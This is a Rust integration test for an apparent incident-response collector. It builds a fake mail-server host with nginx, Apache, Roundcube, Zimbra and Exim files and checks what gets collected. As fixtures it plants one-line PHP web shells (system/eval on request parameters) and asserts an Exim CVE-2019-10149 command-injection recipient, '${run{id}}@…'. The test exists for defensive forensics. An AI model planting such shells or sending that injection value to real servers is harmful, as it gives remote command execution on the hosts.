//! `collect` on a mail server's web side (issue 18): nginx and Apache configs naming vhost logs
//! and web roots in odd places (includes outside `/etc`, `$host` and `${APACHE_LOG_DIR}`
//! variables, a piped `rotatelogs`), a Roundcube install with a planted `temp/x.php`, Zimbra
//! folders, Exim's queue (real Exim 4.96 spool files, tests/fixtures/exim-spool), and the traps
//! a web root can hold: a link out of the root, a FIFO named `x.php`, a script the collector
//! may not read, a 64 MiB sparse log (the 3 GiB case is `hostile_tree`'s). Checks the manifest rows, the hashes, that no message
//! body is copied and the Zimbra secrets file is not, and (full build) that `parse` reads the
//! web logs' and spool headers' rows.
//!
//! The web log lines are nginx's own (tests/fixtures/roundcube/nginx-access.log, see its
//! README); the Roundcube version files are the machine's Debian `roundcube-core` ones when it
//! is installed (the test says so loudly when it is not).

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::time::Duration;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::util::{self, manifest, row, run_cmd};

const OUTSIDE_SECRET: &[u8] = b"HOST-SECRET-OUTSIDE-THE-ROOT-91ad";
const ZIMBRA_SECRET: &[u8] = b"ldap_root_password-7c1e";

fn write(root: &Path, path: &str, bytes: &[u8]) {
    let p = root.join(path.trim_start_matches('/'));
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, bytes).unwrap();
}

fn mkfifo(p: &Path) {
    use std::os::unix::ffi::OsStrExt;
    let c = std::ffi::CString::new(p.as_os_str().as_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
}

fn sha(b: &[u8]) -> String {
    format!("{:x}", Sha256::digest(b))
}

/// The host tree; returns the nginx access log lines written.
fn web_host(top: &Path, root: &Path) -> Vec<u8> {
    let access = fs::read(util::repo().join("tests/fixtures/roundcube/nginx-access.log")).unwrap();
    fs::write(top.join("outside.txt"), OUTSIDE_SECRET).unwrap();
    // nginx: the main file includes conf.d and a folder outside /etc.
    write(
        root,
        "/etc/nginx/nginx.conf",
        b"user www-data;\nhttp {\n  access_log /var/log/nginx/access.log;\n  include /etc/nginx/conf.d/*.conf;\n  include /srv/conf/extra-*.conf;\n}\n",
    );
    write(
        root,
        "/etc/nginx/conf.d/webmail.conf",
        b"server {\n  server_name webmail.lab.example;\n  root /srv/webmail/public;\n  access_log /data/weblogs/webmail.access.log combined;\n  error_log /data/weblogs/webmail.error.log warn;\n  location /roundcube/ { alias /var/www/roundcube/; }\n}\n",
    );
    write(
        root,
        "/srv/conf/extra-admin.conf",
        b"server {\n  root /opt/admin/$host/htdocs;\n  access_log /data/vhosts/$host/access.log;\n}\n",
    );
    // Apache, Debian layout: envvars, a site enabled by a link.
    write(
        root,
        "/etc/apache2/envvars",
        b"export APACHE_RUN_USER=www-data\nexport APACHE_LOG_DIR=/var/log/apache2$SUFFIX\n",
    );
    write(
        root,
        "/etc/apache2/apache2.conf",
        b"ErrorLog ${APACHE_LOG_DIR}/error.log\nIncludeOptional sites-enabled/*.conf\n",
    );
    write(
        root,
        "/etc/apache2/sites-available/horde.conf",
        b"<VirtualHost *:443>\n  DocumentRoot /home/web/horde\n  CustomLog \"|/usr/bin/rotatelogs /logs/horde/access.%Y-%m-%d 86400\" combined\n</VirtualHost>\n",
    );
    fs::create_dir_all(root.join("etc/apache2/sites-enabled")).unwrap();
    symlink(
        "../sites-available/horde.conf",
        root.join("etc/apache2/sites-enabled/horde.conf"),
    )
    .unwrap();
    // The logs, where the configs put them.
    for p in [
        "/var/log/nginx/access.log",
        "/data/weblogs/webmail.access.log",
        "/data/weblogs/webmail.access.log.1",
        "/data/vhosts/a.example/access.log",
        "/logs/horde/access.2026-12-06",
        "/var/log/apache2/error.log",
    ] {
        write(root, p, &access);
    }
    write(
        root,
        "/data/weblogs/unrelated.txt",
        b"not a log of any vhost\n",
    );
    // A sparse rotation (64 MiB: enough to be sparse; the multi-GiB case is hostile_tree's).
    let sparse = root.join("var/log/nginx/access.log.1");
    fs::write(&sparse, &access).unwrap();
    fs::OpenOptions::new()
        .write(true)
        .open(&sparse)
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    // Web roots named by the configs, with scripts in any case.
    write(
        root,
        "/srv/webmail/public/shell.PHP",
        b"<?php system($_GET['c']); ?>\n",
    );
    write(root, "/srv/webmail/public/logo.png", b"\x89PNG\r\n");
    write(
        root,
        "/opt/admin/a.example/htdocs/cmd.phtml",
        b"<?php eval($_POST[1]); ?>\n",
    );
    write(root, "/home/web/horde/login.php", b"<?php // horde login\n");
    // Roundcube under /var/www: the Debian package's own version files when installed.
    let rc = Path::new("/usr/share/roundcube");
    for f in ["index.php", "composer.json", "program/include/iniset.php"] {
        match fs::read(rc.join(f)) {
            Ok(b) => write(root, &format!("/var/www/roundcube/{f}"), &b),
            Err(_) => {
                eprintln!("NOTE: /usr/share/roundcube/{f} absent (roundcube-core not installed): a placeholder is used");
                write(root, &format!("/var/www/roundcube/{f}"), b"<?php\n");
            }
        }
    }
    write(
        root,
        "/var/www/roundcube/config/config.inc.php",
        b"<?php $config['des_key'] = 'k';\n",
    );
    write(
        root,
        "/var/www/roundcube/plugins/archive/archive.php",
        b"<?php class archive {}\n",
    );
    write(
        root,
        "/var/www/roundcube/temp/x.php",
        b"<?php @eval($_REQUEST['x']); ?>\n",
    );
    write(
        root,
        "/var/www/roundcube/temp/RCMTEMPattmnt5f2a",
        b"an attachment being written\n",
    );
    // The shipped files keep the release's time (Roundcube 1.6.5: 2023-11-05); the planted
    // one is written now.
    for f in [
        "index.php",
        "program/include/iniset.php",
        "config/config.inc.php",
        "plugins/archive/archive.php",
    ] {
        util::set_mtime(
            &root.join("var/www/roundcube").join(f),
            "2023-11-05T12:00:00Z",
        );
    }
    // The traps.
    mkfifo(&root.join("var/www/roundcube/temp/fifo.php"));
    symlink(
        top.join("outside.txt"),
        root.join("var/www/roundcube/temp/out.php"),
    )
    .unwrap();
    symlink(
        "/etc/apache2/envvars",
        root.join("var/www/roundcube/temp/in.php"),
    )
    .unwrap();
    symlink("/", root.join("var/www/roundcube/temp/dir.php")).unwrap();
    write(
        root,
        "/var/www/roundcube/temp/locked.php",
        b"<?php // locked\n",
    );
    util::set_mtime(
        &root.join("var/www/roundcube/temp/locked.php"),
        "2023-11-05T12:00:00Z",
    );
    fs::set_permissions(
        root.join("var/www/roundcube/temp/locked.php"),
        fs::Permissions::from_mode(0o000),
    )
    .unwrap();
    // A script over the 2 MiB cap.
    write(root, "/var/www/html/big.php", &vec![b'#'; 3 << 20]);
    // Zimbra.
    write(
        root,
        "/opt/zimbra/.install_history",
        b"1764000000: INSTALLED zimbra-core-10.1.0_GA\n",
    );
    write(root, "/opt/zimbra/conf/localconfig.xml", ZIMBRA_SECRET);
    write(
        root,
        "/opt/zimbra/log/mailbox.log",
        b"2026-12-06 15:39:39,000 INFO  [qtp] soap\n",
    );
    write(root, "/opt/zimbra/log/nginx.access.log", &access);
    write(
        root,
        "/opt/zimbra/jetty_base/webapps/zimbra/public/x.jsp",
        b"<% Runtime.getRuntime(); %>\n",
    );
    // Exim's queue: the real 4.96 spool files.
    let spool = util::repo().join("tests/fixtures/exim-spool/input");
    fs::create_dir_all(root.join("var/spool/exim4/input")).unwrap();
    for e in fs::read_dir(&spool).unwrap() {
        let e = e.unwrap();
        fs::copy(
            e.path(),
            root.join("var/spool/exim4/input").join(e.file_name()),
        )
        .unwrap();
    }
    // Readable by the unprivileged collector (the fixture files are 0640).
    let chmod = std::process::Command::new("chmod")
        .args(["-R", "go+rX"])
        .arg(root.join("var/spool"))
        .status()
        .unwrap();
    assert!(chmod.success());
    access
}

fn collect(top: &Path) -> (std::path::PathBuf, Vec<Value>) {
    let root = top.join("root");
    web_host(top, &root);
    let out_dir = top.join("out");
    fs::create_dir(&out_dir).unwrap();
    fs::set_permissions(&out_dir, fs::Permissions::from_mode(0o777)).unwrap();
    let out = out_dir.join("b");
    let mut cmd = util::mailir_unprivileged(top);
    cmd.args(["collect", "--allow-partial", "--root"])
        .arg(&root)
        .arg("--out")
        .arg(&out);
    let o = run_cmd(cmd, Duration::from_secs(300));
    assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
    let rows = manifest(&out);
    (out, rows)
}

fn category(rows: &[Value], source: &str) -> String {
    row(rows, source)["category"].as_str().unwrap().to_string()
}

#[test]
fn web_side_of_a_mail_server() {
    let t = tempfile::tempdir().unwrap();
    fs::set_permissions(t.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let (out, rows) = collect(t.path());
    let access = fs::read(util::repo().join("tests/fixtures/roundcube/nginx-access.log")).unwrap();

    // Every vhost log, where the configs put it, as web logs, hashed.
    for p in [
        "/var/log/nginx/access.log",
        "/data/weblogs/webmail.access.log",
        "/data/weblogs/webmail.access.log.1",
        "/data/vhosts/a.example/access.log",
        "/logs/horde/access.2026-12-06",
        "/var/log/apache2/error.log",
        "/opt/zimbra/log/nginx.access.log",
    ] {
        let r = row(&rows, p);
        assert_eq!(r["outcome"], "collected", "{r}");
        assert_eq!(r["category"], "web_log", "{r}");
        assert_eq!(r["sha256"], sha(&access), "{r}");
    }
    assert!(
        !rows
            .iter()
            .any(|r| r["source"] == "/data/weblogs/unrelated.txt"),
        "a file no config names is not taken"
    );
    let sparse = row(&rows, "/var/log/nginx/access.log.1");
    assert_eq!(sparse["size"], 64u64 << 20);
    assert!(
        sparse["error"].as_str().unwrap().contains("sparse"),
        "{sparse}"
    );
    // Configs, the included one outside /etc too.
    assert_eq!(
        category(&rows, "/etc/nginx/conf.d/webmail.conf"),
        "web_config"
    );
    assert_eq!(category(&rows, "/srv/conf/extra-admin.conf"), "web_config");
    assert_eq!(
        category(&rows, "/etc/apache2/sites-available/horde.conf"),
        "web_config"
    );
    // Scripts of every web root, any case, stored and hashed; other files not taken.
    for (p, body) in [
        (
            "/srv/webmail/public/shell.PHP",
            &b"<?php system($_GET['c']); ?>\n"[..],
        ),
        (
            "/opt/admin/a.example/htdocs/cmd.phtml",
            b"<?php eval($_POST[1]); ?>\n",
        ),
        ("/home/web/horde/login.php", b"<?php // horde login\n"),
        (
            "/var/www/roundcube/temp/x.php",
            b"<?php @eval($_REQUEST['x']); ?>\n",
        ),
        (
            "/opt/zimbra/jetty_base/webapps/zimbra/public/x.jsp",
            b"<% Runtime.getRuntime(); %>\n",
        ),
    ] {
        let r = row(&rows, p);
        assert_eq!(r["outcome"], "collected", "{r}");
        assert_eq!(r["category"], "web_script", "{r}");
        assert_eq!(r["sha256"], sha(body));
        assert!(r["mtime"].is_string() && r["ctime"].is_string(), "{r}");
        assert_eq!(
            fs::read(out.join(r["stored"].as_str().unwrap())).unwrap(),
            body
        );
    }
    assert_eq!(
        category(&rows, "/var/www/roundcube/program/include/iniset.php"),
        "web_script"
    );
    for p in [
        "/srv/webmail/public/logo.png",
        "/var/www/roundcube/temp/RCMTEMPattmnt5f2a",
    ] {
        assert!(!rows.iter().any(|r| r["source"] == p), "{p} taken");
    }
    let big = row(&rows, "/var/www/html/big.php");
    assert_eq!(big["outcome"], "too_large", "{big}");
    assert!(big["stored"].is_null() && big["size"] == 3u64 << 20);
    // Webmail install files.
    assert_eq!(
        category(&rows, "/var/www/roundcube/composer.json"),
        "web_app"
    );
    let cfg = row(&rows, "/var/www/roundcube/config/config.inc.php");
    assert_eq!(
        (cfg["category"].as_str(), cfg["secret"].as_bool()),
        (Some("web_app"), Some(true))
    );
    assert_eq!(
        row(&rows, "/var/www/roundcube/plugins/archive")["outcome"],
        "listed"
    );
    assert_eq!(category(&rows, "/opt/zimbra/.install_history"), "web_app");
    let lc = row(&rows, "/opt/zimbra/conf/localconfig.xml");
    assert_eq!(lc["outcome"], "skipped", "{lc}");
    assert_eq!(lc["size"], ZIMBRA_SECRET.len());
    assert_eq!(category(&rows, "/opt/zimbra/log/mailbox.log"), "mail_log");
    // Traps: never opened, never followed, refused.
    let f = row(&rows, "/var/www/roundcube/temp/fifo.php");
    assert_eq!(
        (f["outcome"].as_str(), f["file_type"].as_str()),
        (Some("special"), Some("fifo"))
    );
    for l in ["out.php", "in.php", "dir.php"] {
        let r = row(&rows, &format!("/var/www/roundcube/temp/{l}"));
        assert_eq!(r["outcome"], "symlink", "{r}");
        assert!(r["stored"].is_null());
    }
    // The in-root target of in.php is taken as what it is (web config), never as a script.
    assert_eq!(category(&rows, "/etc/apache2/envvars"), "web_config");
    assert!(!rows.iter().any(|r| r["source"] == "/outside.txt"));
    if util::is_root() {
        let r = row(&rows, "/var/www/roundcube/temp/locked.php");
        assert_eq!(r["outcome"], "denied", "{r}");
    }
    // Exim's queue: headers taken, bodies listed as skipped and never copied.
    let spool = util::repo().join("tests/fixtures/exim-spool/input");
    for id in ["1xaIhu-000491-0L", "1xaIhu-000497-0Y", "1xaIhu-00049G-0j"] {
        let h = row(&rows, &format!("/var/spool/exim4/input/{id}-H"));
        assert_eq!(
            (h["outcome"].as_str(), h["category"].as_str()),
            (Some("collected"), Some("spool_header"))
        );
        assert_eq!(
            h["sha256"],
            sha(&fs::read(spool.join(format!("{id}-H"))).unwrap())
        );
        let d = row(&rows, &format!("/var/spool/exim4/input/{id}-D"));
        assert_eq!(d["outcome"], "skipped", "{d}");
        assert!(d["stored"].is_null() && d["size"].is_u64(), "{d}");
    }
    for (name, bytes) in util::entries(&out) {
        assert!(!name.ends_with("-D"), "{name}");
        for secret in [OUTSIDE_SECRET, ZIMBRA_SECRET, b"A line of body."] {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret),
                "{} in {name}",
                String::from_utf8_lossy(secret)
            );
        }
    }
    let v = util::run(&["verify", out.to_str().unwrap()]);
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);
    #[cfg(feature = "analysis")]
    parse_reads_them(&out, &rows);
    #[cfg(feature = "readers")]
    installs(&out);
}

/// The host-side listing: the Roundcube install with its version and the planted script as
/// the one newer than the install around it.
#[cfg(feature = "readers")]
fn installs(out: &Path) {
    let w = mailir::hostconf::webroots::WebRoots::load(&[out.to_path_buf()]);
    assert!(w.errors.is_empty(), "{:?}", w.errors);
    let rc = w
        .installs
        .iter()
        .find(|i| i.root == "/var/www/roundcube")
        .unwrap();
    assert_eq!(rc.product, "roundcube");
    if Path::new("/usr/share/roundcube/program/include/iniset.php").exists() {
        assert!(rc.version.is_some(), "{rc:?}");
    }
    let newer: Vec<&str> = rc
        .scripts
        .iter()
        .filter(|s| s.is_file() && rc.newer_than_install(s, 86_400))
        .map(|s| s.path.as_str())
        .collect();
    assert_eq!(newer, ["/var/www/roundcube/temp/x.php"], "{rc:#?}");
    let zimbra = w.installs.iter().find(|i| i.product == "zimbra").unwrap();
    assert_eq!(zimbra.version.as_deref(), Some("10.1.0_GA"));
    assert!(w
        .installs
        .iter()
        .any(|i| i.root == "/srv/webmail/public" && i.product == "web"));
}

/// `parse` on the bundle: the spool headers become events with the envelope as stored (the
/// CVE-2019-10149 recipient unchanged), and the web logs are among the files offered to it
/// (which of them it reads is decided by content: the access-log reader's business).
#[cfg(feature = "analysis")]
fn parse_reads_them(out: &Path, rows: &[Value]) {
    let o = util::run(&["parse", out.to_str().unwrap()]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let offered = |c: &str| {
        rows.iter()
            .filter(|r| r["category"] == c && r["stored"].is_string())
            .count()
    };
    let web_logs = offered("web_log");
    assert_eq!(web_logs, 8);
    let n = web_logs + offered("mail_log") + offered("spool_header");
    assert!(
        o.stderr.contains(&format!("parse: {n} candidate file(s)")),
        "{n} candidates expected:\n{}",
        o.stderr
    );
    assert!(
        o.stderr
            .contains("files/var/spool/exim4/input/1xaIhu-00049G-0j-H: 1 lines, 3 events"),
        "{}",
        o.stderr
    );
    let ev: Vec<Value> = o
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let queued: Vec<&Value> = ev
        .iter()
        .filter(|e| e["kind"] == "message_queued" && e["queue_id"] == "1xaIhu-00049G-0j")
        .collect();
    assert_eq!(queued.len(), 2, "{ev:#?}");
    assert_eq!(queued[1]["recipient"], "${run{id}}@lab.example");
    assert_eq!(queued[1]["src_ip"], "203.0.113.66");
    let auth = ev
        .iter()
        .find(|e| e["kind"] == "message_received" && e["queue_id"] == "1xaIhu-000497-0Y")
        .unwrap();
    assert_eq!(auth["actor"], "dave@lab.example");
}
